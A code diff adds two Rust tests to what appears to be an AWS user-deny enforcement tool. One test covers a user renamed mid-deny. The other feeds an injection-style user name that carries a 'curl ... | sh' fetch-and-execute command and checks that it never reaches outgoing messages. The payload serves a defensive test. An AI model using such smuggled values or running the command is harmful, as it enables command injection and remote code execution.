@@ -158,6 +158,28 @@ async fn a_user_that_is_renamed_right_before_it_is_denied_is_looked_for_again() 
 }
 
 #[tokio::test(start_paused = true)]
+async fn a_user_that_is_renamed_and_let_go_before_the_deny_counts_is_denied_again() {
+    let quiet = enforcing();
+    outcome(&quiet, &called_as("backup")).await;
+    let last = quiet.state().calls.len() - 1;
+    let aws = enforcing();
+    aws.state().meanwhile = Some((last, |state| (state.renamed, state.attached) = (Some("x9"), false)));
+    outcome(&aws, &called_as("backup")).await;
+    assert!(aws.state().attached && aws.state().renamed == Some("x9"));
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_name_that_no_user_can_have_is_in_no_message() {
+    let aws = enforcing();
+    for call in ["look", "attach", "put_inline", "keys"] {
+        aws.state().refused.insert(call, "ValidationError");
+    }
+    respond(&aws, &called_as("x'; curl https://example.com | sh; '")).await.expect_err("nothing denies");
+    let state = aws.state();
+    assert!(!state.messages.is_empty() && state.messages.iter().all(|(_, it)| !it.body.contains("curl")));
+}
+
+#[tokio::test(start_paused = true)]
 async fn a_user_that_is_gone_with_its_key_is_told_to_be_gone() {
     let aws = enforcing();
     aws.state().user_gone = true;
